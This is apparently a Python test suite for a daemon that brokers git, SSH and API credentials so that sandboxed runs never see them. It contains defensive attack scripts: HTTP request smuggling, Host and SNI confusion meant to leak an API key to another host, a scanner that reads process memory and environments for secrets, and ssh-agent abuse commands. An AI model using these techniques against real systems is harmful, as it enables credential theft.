"""Credential protection: git over https and ssh and calls of an API work with
secrets that the run never has: not in its environment, its processes, their
memory, its disk; nor are they in the log, the telemetry or a core."""

import base64
import glob
import http.server
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import threading
import time
import unittest

from lib_daemon import Daemon, skip
from lib_proxy import OTHER, WEB, World

ROOT = os.geteuid() == 0  # before the test's own namespaces
TOKEN = "tok-" + os.urandom(12).hex()
BASIC = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
API = "api-" + os.urandom(12).hex()
NEEDLES = [TOKEN, BASIC, API]
NAMES = {"git.test": [WEB], "api.test": [OTHER], "else.test": [OTHER],
         "fake.test": [OTHER], "ask.test": [OTHER]}
CONFIG = """
profiles:
  site: {{network: ["git.test:443", "git.test:22", "api.test:443",
                    "else.test:443", "fake.test:443", "ask.test:443",
                    "api.test:80"]}}
  signs: {{network: ["git.test:22"]}}
  laptop: {{network: ["git.test:22"]}}
  free: {{network: ["git.test:22"]}}
  bare: {{network: ["git.test:443", "git.test:22", "api.test:443"]}}
telemetry: {{file: {root}/telemetry.jsonl}}
credentials:
  - {{name: forge, kind: git, hosts: [git.test], username: x-access-token,
     file: {root}/secrets/token, ca_file: {root}/ca.pem, profiles: [site]}}
  - {{name: api, kind: header, hosts: [api.test, fake.test],
     header: "X-Api-Key: {{}}", variable: API_KEY, profiles: [site],
     command: [/bin/cat, {root}/secrets/api], ca_file: {root}/ca.pem}}
  - {{name: asked, kind: header, hosts: [ask.test], profiles: [site],
     header: "X-Api-Key: {{}}", file: {root}/secrets/token, ask: true,
     ca_file: {root}/ca.pem}}
  - {{name: deploy, kind: ssh, hosts: [git.test], username: {user},
     file: {root}/secrets/key, host_keys: ["{host_key}"], profiles: [site]}}
  - {{name: laptop, kind: ssh, hosts: [git.test], username: {user},
     agent: {root}/agent.sock, public_key: "{agent_key}", users: ["{uid}"],
     host_keys: ["{host_key}"], profiles: [laptop]}}
  - {{name: free, kind: ssh, hosts: [git.test], profiles: [free],
     agent: {root}/agent.sock, public_key: "{agent_key}", users: ["{uid}"]}}
  - {{name: anywhere, kind: ssh, hosts: [git.test], profiles: [signs],
     file: {root}/secrets/key, ask: true}}
"""
# Logins at the servers that the words name, one after the other.
SIGN = r"""
import os, socket, struct, subprocess, sys
def cut(data):
    end = 4 + struct.unpack(">I", data[:4])[0]
    return data[4:end], data[end:]
def put(*parts):
    return b"".join(struct.pack(">I", len(p)) + p for p in parts)
def say(sock, body):
    sock.sendall(put(body))
    sock.settimeout(60)
    size = struct.unpack(">I", sock.recv(4, socket.MSG_WAITALL))[0]
    return sock.recv(size, socket.MSG_WAITALL)
def openssl(*words):
    return subprocess.run(["openssl", *words], check=True,
                          stdout=subprocess.PIPE).stdout
said = []
for server in sys.argv[1:]:
    agent = socket.socket(socket.AF_UNIX)
    agent.connect(os.environ["SSH_AUTH_SOCK"])
    key = cut(say(agent, b"\x0b")[5:])[0]
    session = os.urandom(32)
    if server != "-":
        path = f"{server}.pem"
        if not os.path.exists(path):
            openssl("genpkey", "-algorithm", "ed25519", "-out", path)
        public = openssl("pkey", "-in", path, "-pubout", "-outform", "DER")
        open("session", "wb").write(session)
        signed = openssl("pkeyutl", "-sign", "-inkey", path, "-rawin", "-in",
                         "session")
        kind = b"ssh-ed25519"
        bound = say(agent, b"\x1b" + put(
            b"session-bind@openssh.com", put(kind, public[-32:]), session,
            put(kind, signed)) + b"\0")
        assert bound == b"\x06", bound
    data = (put(session) + b"\x32" + put(b"git", b"ssh-connection",
            b"publickey") + b"\x01" + put(cut(key)[0], key))
    said.append("yes" if say(agent, b"\x0d" + put(key, data) + bytes(4))[0]
                == 14 else "no")
print(*said)
"""
# One request after the other, each to be refused; what came back, in a word.
ATTACK = r"""
import os, socket, ssl
context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
def talk(data, host="api.test", name=None, alpn=None):
    sock = socket.create_connection(("127.0.0.1", 3128), 20)
    sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n"
                 .encode())
    head = sock.recv(4096)
    if b" 200 " not in head.split(b"\r\n")[0]:
        return head.split()[1].decode()
    if alpn:
        context.set_alpn_protocols(alpn)
    try:
        tls = context.wrap_socket(sock, server_hostname=name or host)
        tls.sendall(data)
        answer = b""
        while b"\r\n" not in answer:
            more = tls.recv(4096)
            if not more:
                break
            answer += more
        words = answer.split()
        return words[1].decode() if len(words) > 1 else "closed"
    except (OSError, ssl.SSLError) as e:
        return "refused"
def request(line, *fields):
    return "\r\n".join((line, *fields, "", "")).encode()
get = "GET /stolen HTTP/1.1"
for name, result in (
    ("control", talk(request("GET /fair HTTP/1.1", "Host: api.test",
                             "Connection: close"))),
    ("other-host", talk(request(get, "Host: else.test"))),
    ("two-hosts", talk(request(get, "Host: api.test", "Host: else.test"))),
    ("two-hosts-2", talk(request(get, "Host: else.test", "Host: api.test"))),
    ("no-host", talk(request(get))),
    ("host-user", talk(request(get, "Host: api.test@else.test"))),
    ("host-port", talk(request(get, "Host: api.test:8443"))),
    ("host-blank", talk(request(get, "Host : api.test"))),
    ("folded", talk(request(get, "Host: api.test", "X: a", " b: c"))),
    ("absolute", talk(request("GET https://else.test/stolen HTTP/1.1",
                              "Host: api.test"))),
    ("absolute-2", talk(request("GET https://else.test/stolen HTTP/1.1",
                                "Host: else.test"))),
    ("connect", talk(request("CONNECT else.test:443 HTTP/1.1",
                             "Host: api.test"))),
    ("connect-2", talk(request("CONNECT else.test:443 HTTP/1.1",
                               "Host: else.test:443"))),
    ("trace", talk(request("TRACE /stolen HTTP/1.1", "Host: api.test"))),
    ("upgrade", talk(request("GET /fair HTTP/1.1", "Host: api.test",
                             "Connection: Upgrade",
                             "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"))),
    ("smuggled", talk(request("POST /stolen HTTP/1.1", "Host: api.test",
                              "Content-Length: 4",
                              "Transfer-Encoding: chunked"))),
    ("http2", talk(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))),
    ("http-1.0-keep", talk(request("GET /stolen HTTP/1.0",
                                   "Host: else.test"))),
    ("sni", talk(request(get, "Host: api.test"), "else.test", "api.test")),
    ("sni-2", talk(request(get, "Host: else.test"), "api.test", "else.test")),
    ("pipelined", talk(request("GET /fair HTTP/1.1", "Host: api.test") +
                       request(get, "Host: else.test"))),
    ("h2-only", talk(request(get, "Host: else.test"), alpn=["h2"])),
):
    print(name, result)
"""
# The needles as they are would be in the search's own memory and text.
SEARCH = r"""
import glob, os, subprocess, sys
needles = [bytes.fromhex(w)[::-1] for w in sys.argv[2].split(",")]
found, looked = [], 0
def look(data, where):
    for n in needles:
        if n in data and not data.count(n[::-1]):
            found.append(where)
def memory(pid):
    global looked
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return
    looked += 1
    for line in maps:
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        if "r" not in line.split()[1] or "[v" in line:
            continue
        try:
            mem.seek(low); look(mem.read(high - low), f"mem {pid}")
        except (OSError, ValueError, OverflowError):
            pass
def scan():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                look(open(f"/proc/{pid}/{name}", "rb").read(), name)
            except OSError:
                pass
        if int(pid) != os.getpid():
            memory(pid)
work = subprocess.Popen(sys.argv[1], shell=True)
while work.poll() is None:
    scan()
look("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode(), "env")
# A home may be large: what is looked at there is bounded.
for top in (os.getcwd(), "/tmp", "/run", "/etc", os.path.expanduser("~")):
    left = 2000
    for folder, _, names in os.walk(top):
        for name in names[:left]:
            try:
                path = os.path.join(folder, name)
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                    look(open(path, "rb").read(), path)
            except OSError:
                pass
        left -= len(names)
        if left <= 0:
            break
print("looked at", looked, "memories; found", sorted(set(found)),
      "status", work.returncode)
"""
SHOW = ("python3 -c 'import os; print(*map(os.environ.get, "
        "[\"API_KEY\", \"SSH_AUTH_SOCK\"]))'")
needles_hex = ",".join(n.encode()[::-1].hex() for n in NEEDLES)


def run(*words, **more):
    return subprocess.run(words, check=True, capture_output=True, text=True,
                          **more).stdout


class Authority:
    """Certificates for the test's own hosts."""

    def __init__(self, top):
        self.top = top
        run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
            "ec_paramgen_curve:P-256", "-nodes", "-keyout", f"{top}/ca.key",
            "-out", f"{top}/ca.pem", "-days", "2", "-subj", "/CN=test ca")

    def context(self, *names, trusted=True):
        base = f"{self.top}/{names[0]}"
        sign = ["-CA", f"{self.top}/ca.pem", "-CAkey", f"{self.top}/ca.key"]
        run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
            "ec_paramgen_curve:P-256", "-nodes", "-keyout", f"{base}.key",
            "-out", f"{base}.pem", "-days", "2", "-subj", f"/CN={names[0]}",
            "-addext", "basicConstraints=critical,CA:FALSE", "-addext",
            "subjectAltName=" + ",".join("DNS:" + n for n in names),
            *(sign if trusted else []))
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(f"{base}.pem", f"{base}.key")
        return context


class Forge(http.server.BaseHTTPRequestHandler):
    """git http-backend behind a password."""
    protocol_version = "HTTP/1.1"
    root = None
    seen = []

    def log_message(self, *_):
        pass

    def body(self):
        if self.headers.get("Transfer-Encoding") == "chunked":
            data = b""
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                data += self.rfile.read(size)
                self.rfile.readline()
                if size == 0:
                    return data
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def answer(self):
        self.seen.append(self.headers.get("Authorization"))
        data = self.body()
        if self.headers.get("Authorization") != "Basic " + BASIC:
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="forge"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        path, _, query = self.path.partition("?")
        done = subprocess.run(
            ["/usr/lib/git-core/git-http-backend"], input=data, check=True,
            capture_output=True, env={
                "GIT_PROJECT_ROOT": self.root, "GIT_HTTP_EXPORT_ALL": "1",
                "PATH_INFO": path, "QUERY_STRING": query, "REMOTE_USER": "dev",
                "REQUEST_METHOD": self.command, "PATH": os.environ["PATH"],
                "CONTENT_TYPE": self.headers.get("Content-Type", ""),
                "HTTP_CONTENT_ENCODING":
                    self.headers.get("Content-Encoding", ""),
                "GIT_PROTOCOL": self.headers.get("Git-Protocol", ""),
                "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0":
                    "safe.directory", "GIT_CONFIG_VALUE_0": "*"}).stdout
        head, _, rest = done.partition(b"\r\n\r\n")
        status = 200
        fields = []
        for line in head.decode().split("\r\n"):
            name, _, value = line.partition(": ")
            if name == "Status":
                status = int(value.split()[0])
            else:
                fields.append((name, value))
        self.send_response(status)
        for field in fields:
            self.send_header(*field)
        self.send_header("Content-Length", str(len(rest)))
        self.end_headers()
        self.wfile.write(rest)

    do_GET = do_POST = answer


class Service(http.server.BaseHTTPRequestHandler):
    """An API that keeps what it was sent."""
    protocol_version = "HTTP/1.1"
    seen = []

    def log_message(self, *_):
        pass

    def do_GET(self):
        host = self.headers.get("Host")
        self.seen.append((host, self.path, self.headers.get("X-Api-Key")))
        text = b"hello from " + host.encode() + b"\n"
        self.send_response(302 if self.path == "/away" else 200)
        if self.path == "/away":
            self.send_header("Location", "https://else.test/landed")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    do_TRACE = do_GET


class Quiet(http.server.ThreadingHTTPServer):
    def handle_error(self, request, client_address):
        """A client that does not trust us is no error of the test."""


def serve(world, address, handler, context, port=443):
    with world.internet:
        server = Quiet((address, port), handler)
    if context is not None:
        server.socket = context.wrap_socket(
            server.socket, server_side=True, do_handshake_on_connect=False)
    world.servers.append(server)
    threading.Thread(target=server.serve_forever, daemon=True).start()


class OwnAgent:
    """ssh-agent with two keys, as a user has one."""

    def __init__(self, path, *keys):
        self.path = path
        self.keys = keys
        self.process = None
        self.start()

    def start(self):
        self.process = subprocess.Popen(
            ["ssh-agent", "-D", "-a", self.path], stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        end = time.monotonic() + 10
        while not os.path.exists(self.path):
            assert time.monotonic() < end
            time.sleep(0.02)
        self.add(*self.keys)

    def add(self, *words):
        return subprocess.run(
            ["ssh-add", "-q", *words], check=True, capture_output=True,
            env={**os.environ, "SSH_AUTH_SOCK": self.path}).stdout

    def stop(self):
        self.process.terminate()
        self.process.wait()
        if os.path.exists(self.path):
            os.unlink(self.path)


class Site(Daemon):
    def __init__(self, top, user, host_key):
        super().__init__()
        os.chmod(self.root, 0o755)
        os.mkdir(f"{self.root}/secrets", 0o700)
        shutil.copy(f"{top}/ca.pem", f"{self.root}/ca.pem")
        for name, text in (("token", TOKEN + "\n"), ("api", API)):
            self.secret(name, text)
        with open(f"{top}/user", encoding="ascii") as f:
            self.secret("key", f.read())
        with open(f"{top}/laptop.pub", encoding="ascii") as f:
            agent_key = f.read().strip()
        with open(self.config, "w", encoding="ascii") as f:
            f.write(CONFIG.format(root=self.root, user=user,
                                  host_key=host_key, agent_key=agent_key,
                                  uid=os.geteuid()))
        self.owner = OwnAgent(f"{self.root}/agent.sock", f"{top}/laptop",
                              f"{top}/other")
        shutil.copy(f"{top}/known_hosts", f"{self.workspace}/known_hosts")
        with open(f"{self.workspace}/search.py", "w", encoding="ascii") as f:
            f.write(SEARCH)

    def secret(self, name, text):
        with open(f"{self.root}/secrets/{name}", "w", encoding="ascii") as f:
            f.write(text)
        os.chmod(f"{self.root}/secrets/{name}", 0o600)

    def start(self):
        super().start()
        end = time.monotonic() + 20
        while self.daemon_log().count(" holds ") < 7:
            assert time.monotonic() < end, self.daemon_log()[-3000:]
            time.sleep(0.02)

    def run_script(self, script, profile="site"):
        _, action, _ = self.shell(script, wait=0, profile=profile)
        assert "id" in action, action
        if action["state"] == "pending":
            status, body, _ = self.answer(action["id"], "allow")
            assert status == 200, body
        for _ in range(12):
            _, action, _ = self.agent("GET", f"/v1/actions/{action['id']}",
                                      headers={"Prefer": "wait=5"})
            if action["state"] == "done":
                return action
        raise AssertionError(f"it does not end: {action}")

    def rows(self, kind):
        out = self.assent("log", "export", "--state", self.state).stdout
        rows = [json.loads(line) for line in out.splitlines()]
        return [r for r in rows if r["kind"] == kind]

    def tree(self):
        """All that the daemon has written, without where secrets are."""
        for folder, _, names in os.walk(self.root):
            for name in names:
                path = os.path.join(folder, name)
                if os.path.isfile(path) and not path.startswith(
                        f"{self.root}/secrets/"):
                    yield path


class CredentialProtection(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.world = World(NAMES)
        cls.top = cls.world.top
        cls.repos = f"{cls.top}/repos"
        cls.user = run("id", "-un").strip()
        authority = Authority(cls.top)
        os.chmod(cls.top, 0o755)
        run("git", "init", "-q", "--bare", "-b", "main",
            f"{cls.repos}/a.git")
        run("git", "-C", f"{cls.repos}/a.git", "config", "http.receivepack",
            "true")
        Forge.root = cls.repos
        serve(cls.world, WEB, Forge, authority.context("git.test"))
        context = authority.context("api.test", "else.test", "ask.test")
        context.sni_callback = lambda s, name, _: setattr(
            s, "context", cls.untrusted) if name == "fake.test" else None
        cls.untrusted = authority.context("fake.test", trusted=False)
        serve(cls.world, OTHER, Service, context)
        serve(cls.world, OTHER, Service, None, 80)
        for name in ("user", "host", "laptop", "other"):
            run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "",
                "-f", f"{cls.top}/{name}")
        with open(f"{cls.top}/host.pub", encoding="ascii") as f:
            cls.host_key = f.read().strip()
        with open(f"{cls.top}/known_hosts", "w", encoding="ascii") as f:
            f.write(f"git.test {cls.host_key}\n")
        cls.sshd = cls.start_sshd()
        cls.site = Site(cls.top, cls.user, cls.host_key)
        cls.site.__enter__()

    @classmethod
    def start_sshd(cls):
        """On an address of the test's own internet; None as a plain user."""
        if not ROOT or not os.path.exists("/usr/sbin/sshd"):
            return None
        run("mount", "-t", "tmpfs", "tmpfs", "/run")
        os.mkdir("/run/sshd", 0o755)
        with open(f"{cls.top}/sshd_config", "w", encoding="ascii") as f:
            f.write(f"""ListenAddress {WEB}
HostKey {cls.top}/host
AuthorizedKeysFile {cls.top}/user.pub {cls.top}/laptop.pub
PidFile none
StrictModes no
UsePAM no
PermitRootLogin prohibit-password
PasswordAuthentication no
""")
        with cls.world.internet:
            server = subprocess.Popen(
                ["/usr/sbin/sshd", "-D", "-e", "-f", f"{cls.top}/sshd_config"],
                stdin=subprocess.DEVNULL, stderr=subprocess.PIPE)
            for _ in range(200):
                with socket.socket() as s:
                    if s.connect_ex((WEB, 22)) == 0:
                        return server
                time.sleep(0.02)
        raise AssertionError(server.stderr.read())

    @classmethod
    def tearDownClass(cls):
        cls.site.owner.stop()
        cls.site.__exit__(None, None, None)
        if cls.sshd is not None:
            cls.sshd.kill()
            cls.sshd.wait()
            cls.sshd.stderr.close()
        cls.world.__exit__()

    def done(self, script, profile="site"):
        action = self.site.run_script(script, profile)
        outcome = action["outcome"]
        if outcome["exit"] != 0:
            print(self.site.daemon_log()[-5000:])
        self.assertEqual(outcome["exit"], 0, outcome)
        return action

    def searched(self, command):
        """Runs it in a run that looks everywhere for the secrets."""
        command = command.replace("'", "'\\''")
        out = self.done(f"python3 search.py '{command}' {needles_hex}"
                        )["outcome"]["stdout"]
        self.assertIn("found [] status 0", out)
        return out

    def used(self, credential):
        return [r["body"] for r in self.site.rows("credential")
                if r["body"]["credential"] == credential]

    def test_1_git_clones_and_pushes_over_https_without_the_token(self):
        before = len(self.used("forge"))
        self.searched(
            "set -e; rm -rf w; git clone -q https://git.test/a.git w; cd w; "
            "git config user.email a@b; git config user.name a; "
            "date +%N > file; git add file; git commit -qm one; "
            "git push -q origin HEAD:main; cd ..; "
            "git clone -q https://git.test/a.git again; cmp w/file "
            "again/file; rm -rf again")
        self.assertIn("Basic " + BASIC, Forge.seen)
        uses = self.used("forge")[before:]
        self.assertGreaterEqual(len(uses), 5)
        self.assertEqual(
            {(u["host"], u["port"]) for u in uses}, {("git.test", 443)})
        self.assertIn("POST /a.git/git-receive-pack",
                      [u["what"] for u in uses])

    def test_2_git_clones_and_pushes_over_ssh_without_the_key(self):
        if self.sshd is None:
            self.skipTest("needs root and openssh-server")
        self.searched(
            "set -e; export GIT_SSH_COMMAND=\"ssh -o "
            "UserKnownHostsFile=$PWD/known_hosts -o StrictHostKeyChecking=yes "
            "-o BatchMode=yes\"; rm -rf s; "
            f"git clone -q ssh://{self.user}@git.test{self.repos}/a.git s; "
            "cd s; git config user.email a@b; git config user.name a; "
            "date +%N > other; git add other; git commit -qm two; "
            "git push -q origin HEAD:main")
        uses = self.used("deploy")
        self.assertEqual(len(uses), 2, uses)
        self.assertIn(f"sign as {self.user} for the server SHA256:",
                      uses[0]["what"])
        self.assertEqual(uses[0]["host"], "git.test")

    def test_2a_git_clones_with_a_key_that_stays_in_the_users_agent(self):
        if self.sshd is None:
            self.skipTest("needs root and openssh-server")
        owner = self.site.owner
        # For that host alone: the agent hears which one the client is at.
        owner.add("-h", "git.test", "-H", f"{self.top}/known_hosts",
                  f"{self.top}/laptop")
        self.addCleanup(owner.add, f"{self.top}/laptop")
        self.addCleanup(owner.add, "-d", f"{self.top}/laptop")
        self.done(
            "set -e; export GIT_SSH_COMMAND=\"ssh -o "
            "UserKnownHostsFile=$PWD/known_hosts -o StrictHostKeyChecking=yes "
            "-o BatchMode=yes\"; rm -rf l; "
            f"git clone -q ssh://{self.user}@git.test{self.repos}/a.git l",
            "laptop")
        uses = self.used("laptop")
        self.assertEqual(len(uses), 1, uses)
        self.assertNotIn("[masked]", uses[0]["what"])
        self.assertIn(f"sign as {self.user} for the server SHA256:",
                      uses[0]["what"])

    def test_2b_the_users_agent_signs_what_is_chosen_and_does_nothing_else(
            self):
        with open(f"{self.top}/laptop.pub", encoding="ascii") as f:
            chosen = f.read().split()[1]
        before = sorted(self.site.owner.add("-L").splitlines())
        out = self.done(
            "ssh-add -L; ssh-add -D; ssh-add -x </dev/null; "
            "ssh-keygen -q -t ed25519 -N '' -f k; ssh-add k; "
            "echo x > m; ssh-add -L > pub; "
            "ssh-keygen -Y sign -f pub -n git m; test ! -e m.sig; "
            "rm -f k k.pub m pub; ls /proc/*/fd -l | grep -c agent.sock; "
            "true", "laptop")["outcome"]
        self.assertEqual(out["stdout"].split()[:2], ["ssh-ed25519", chosen])
        self.assertEqual(len(out["stdout"].splitlines()), 2, out)
        # Neither emptied nor locked, and no key more.
        self.assertEqual(sorted(self.site.owner.add("-L").splitlines()),
                         before)
        self.assertEqual(len(before), 2)

    def test_2c_an_agent_that_is_gone_signs_nothing_and_is_found_again(self):
        d = self.site
        with open(f"{d.workspace}/sign.py", "w", encoding="ascii") as to:
            to.write(SIGN)
        d.owner.stop()
        out = self.done("python3 sign.py a", "free")["outcome"]
        self.assertEqual(out["stdout"], "no\n", out)
        self.assertIn("cannot reach the agent", d.daemon_log())
        words = ["credentials", "test", "free", "--config", d.config]
        self.assertEqual(d.assent(*words).returncode, 1)
        d.owner.start()
        out = self.done("python3 sign.py a", "free")["outcome"]
        self.assertEqual(out["stdout"], "yes\n", out)
        self.assertIn("good, the agent has SHA256:", d.assent(*words).stdout)
        # Each was recorded before the agent was asked.
        self.assertEqual(len(self.used("free")), 2)

    def test_3_the_agent_lists_and_does_nothing_else(self):
        out = self.done(
            "ssh-add -l; ssh-add -D; ssh-add -x </dev/null; "
            "ssh-keygen -q -t ed25519 -N '' -f k; ssh-add k; "
            "echo x > m; ssh-add -L > pub; "
            "ssh-keygen -Y sign -f pub -n git m; test ! -e m.sig; "
            "ssh-add -l; rm -f k k.pub m pub")["outcome"]
        self.assertEqual(out["stdout"].count("deploy (ED25519)"), 2, out)
        self.assertEqual(len(out["stdout"].splitlines()), 2, out)

    def test_4_a_header_goes_to_its_host_and_nowhere_else(self):
        Service.seen.clear()
        out = self.done(
            "curl -sS https://api.test/one; "
            "curl -sS -H 'x-api-key: mine' https://api.test/two; "
            "curl -sSL https://api.test/away; "
            "curl -sSk https://else.test/plain; "
            "curl -sS -o /dev/null -w '%{http_code}\\n' -X TRACE "
            "https://api.test/; "
            "curl -sS -H 'Host: else.test' https://api.test/smuggled; "
            "true")["outcome"]["stdout"]
        self.assertEqual(
            self.done(SHOW)["outcome"]["stdout"],
            "assent-placeholder-api /run/assent/ssh-agent\n")
        self.assertEqual(
            [s for s in Service.seen if s[0] == "api.test"],
            [("api.test", "/one", API), ("api.test", "/two", API),
             ("api.test", "/away", API)])
        self.assertEqual([s for s in Service.seen if s[2] is not None
                          and s[0] != "api.test"], [])
        self.assertNotIn("/smuggled", [s[1] for s in Service.seen])
        self.assertIn("403", out)

    def test_5_a_host_that_cannot_prove_its_name_gets_nothing(self):
        Service.seen.clear()
        out = self.done("curl -sS https://fake.test/x; "
                        "curl -sS http://api.test/y; true")["outcome"]
        self.assertIn("the host cannot be trusted", out["stdout"], out)
        self.assertEqual([s for s in Service.seen if s[2] is not None], [])

    def test_5a_a_refusal_reaches_a_client_that_is_still_sending(self):
        """The end of a connection must not overtake the words before it."""
        out = self.done(
            "head -c 1000000 /dev/zero >body; "
            "for i in 1 2 3 4 5 6; do curl -sS --data-binary @body "
            "-H Expect: https://fake.test/x & done; wait; rm body")["outcome"]
        self.assertEqual(
            out["stdout"].count("the host cannot be trusted"), 6, out)

    def question(self):
        end = time.monotonic() + 20
        while time.monotonic() < end:
            _, found, _ = self.site.approver(
                "GET", "/v1/actions?state=pending")
            for item in found["items"]:
                if item["proposal"]["tool"] == "permission":
                    return item
            time.sleep(0.02)
        raise AssertionError(self.site.daemon_log()[-3000:])

    def test_5b_a_credential_that_asks_is_used_when_a_person_says_so(self):
        d = self.site
        for answer, status in (("deny", "403"), ("allow", "200")):
            Service.seen.clear()
            _, action, _ = d.shell(
                "curl -sS -o /dev/null -w '%{http_code}\n' "
                "https://ask.test/a -o /dev/null https://ask.test/b", wait=0,
                profile="site")
            d.answer(action["id"], "allow")
            question = self.question()
            self.assertEqual(Service.seen, [])
            _, whole, _ = d.approver(
                "GET", f"/v1/actions/{question['id']}/explain")
            self.assertIn("uses the credential asked: GET /a",
                          json.dumps(whole))
            self.assertIn("use the credential asked for ask.test:443: GET /a",
                          json.dumps(whole))
            d.answer(question["id"], answer)
            if answer == "deny":
                d.answer(self.question()["id"], "deny")
            _, action, _ = d.agent("GET", f"/v1/actions/{action['id']}",
                                   headers={"Prefer": "wait=20"})
            # Asked once for a host and run; recorded each time.
            self.assertEqual(action["outcome"]["stdout"],
                             f"{status}\n{status}\n", action)
            sent = 2 if answer == "allow" else 0
            self.assertEqual([s[2] for s in Service.seen], [TOKEN] * sent)
            self.assertEqual(len(self.used("asked")), sent)

    def test_5c_a_yes_to_one_server_signs_for_no_other(self):
        d = self.site
        with open(f"{d.workspace}/sign.py", "w", encoding="ascii") as to:
            to.write(SIGN)
        for words, answers, says in (
                ("a a b", ("allow", "deny"), "yes yes no\n"),
                ("- -", ("allow", "deny"), "yes no\n")):
            _, action, _ = d.shell(f"python3 sign.py {words}", wait=0,
                                   profile="signs")
            d.answer(action["id"], "allow")
            for answer in answers:
                d.answer(self.question()["id"], answer)
            _, action, _ = d.agent("GET", f"/v1/actions/{action['id']}",
                                   headers={"Prefer": "wait=20"})
            self.assertEqual(action["outcome"]["stdout"], says, action)

    def test_6_a_run_of_another_profile_has_nothing(self):
        out = self.done(
            "ls /run/assent-ca; "
            "curl -sSk https://git.test/a.git/info/refs -o /dev/null "
            "-w '%{http_code}\\n'; true", "bare")["outcome"]
        self.assertEqual(out["stdout"], "401\n", out)
        self.assertEqual(self.done(SHOW, "bare")["outcome"]["stdout"],
                         "None None\n")

    def test_7_the_question_says_what_a_run_may_use(self):
        _, action, _ = self.site.shell("git push https://git.test/a.git x", wait=0,
                                       profile="site")
        self.assertEqual(action["state"], "pending", action)
        _, whole, _ = self.site.approver(
            "GET", f"/v1/actions/{action['id']}/explain")
        self.assertIn("may use the credential forge, api, asked, deploy",
                      whole["profile"]["network"])
        self.site.answer(action["id"], "deny")

    def test_7a_no_request_takes_a_secret_to_another_host(self):
        d = self.site
        with open(f"{d.workspace}/attack.py", "w", encoding="ascii") as to:
            to.write(ATTACK)
        Service.seen.clear()
        out = self.done("python3 attack.py")["outcome"]["stdout"]
        told = dict(line.split(" ", 1) for line in out.splitlines())
        self.assertEqual(len(told), 22, out)
        self.assertEqual(told.pop("control"), "200", out)
        # Passed on as a plain request; nothing is switched.
        self.assertEqual(told.pop("upgrade"), "200", out)
        # The first is answered, or both are refused.
        self.assertIn(told.pop("pipelined"), ("200", "403"), out)
        for name, result in told.items():
            self.assertIn(result, ("400", "403", "421", "501", "closed",
                                   "refused"), (name, out))
        for host, path, key in Service.seen:
            if key is not None:
                self.assertEqual((host, path), ("api.test", "/fair"), out)
            self.assertNotIn("stolen", path, out)

    def test_7b_no_command_or_route_tells_a_secret(self):
        d = self.site
        said = [d.assent("log", *words, "--state", d.state).stdout
                for words in (("list",), ("report",), ("export",),
                              ("verify",))]
        said += [repr(door("GET", path)[1])
                 for door in (d.agent, d.approver) for path in (
                     "/v1/credentials", "/v1/actions?state=done",
                     "/v1/version", "/v1/requirements", "/metrics")]
        said.append(d.assent("credentials", "test", "--json", "--config",
                             d.config).stdout)
        said.append(d.daemon_log())
        self.assertGreater(sum(map(len, said)), 10000)
        for text in said:
            for needle in NEEDLES:
                self.assertFalse(needle in text, text[:80])

    def test_7c_nobody_else_looks_into_the_broker(self):
        if not ROOT or not shutil.which("setpriv"):
            self.skipTest("needs root")
        broker = self.site.roles()["broker"][0]
        for name in ("environ", "mem", "maps", "fd", "cwd", "stack",
                     "map_files"):
            path = f"/proc/{broker}/{name}"
            done = subprocess.run(
                ["setpriv", "--reuid", "65534", "--regid", "65534",
                 "--clear-groups", "sh", "-c",
                 f"cat {path} || ls {path}/"], capture_output=True,
                check=False)
            self.assertNotEqual(done.returncode, 0, name)
            self.assertEqual(done.stdout, b"", name)
        with open(f"/proc/{broker}/status", encoding="ascii") as f:
            status = f.read()
        self.assertIn("NoNewPrivs:\t1", status)
        self.assertIn("Seccomp:\t2", status)

    def test_8_nothing_the_daemon_wrote_or_runs_has_a_secret(self):
        d = self.site
        broker = d.roles()["broker"][0]
        seen = 0
        for pid in [d.process.pid] + sum(d.roles().values(), []):
            for name in ("environ", "cmdline"):
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    data = f.read()
                for needle in NEEDLES:
                    self.assertNotIn(needle.encode(), data, (pid, name))
        # It has neither a network nor a file of its own.
        for fd in glob.glob(f"/proc/{broker}/fd/*"):
            self.assertFalse(os.readlink(fd).startswith(d.root + "/secrets"))
        os.kill(broker, signal.SIGABRT)
        end = time.monotonic() + 20
        while d.roles().get("broker", [broker]) == [broker]:
            self.assertLess(time.monotonic(), end)
            time.sleep(0.02)
        for path in d.tree():
            with open(path, "rb") as f:
                data = f.read()
            seen += 1
            for needle in NEEDLES:
                self.assertNotIn(needle.encode(), data, path)
        self.assertGreater(seen, 5)
        with open(f"{d.root}/telemetry.jsonl", encoding="utf-8") as f:
            self.assertIn('"kind":"credential"', f.read())

    def test_9_after_the_broker_came_back_all_goes_on(self):
        d = self.site
        end = time.monotonic() + 20
        while d.daemon_log().count(" holds ") < 14:
            self.assertLess(time.monotonic(), end)
            time.sleep(0.05)
        self.done("curl -sS https://api.test/after")


if __name__ == "__main__":
    if not shutil.which("git"):
        skip("there is no git")
    unittest.main(failfast=True)
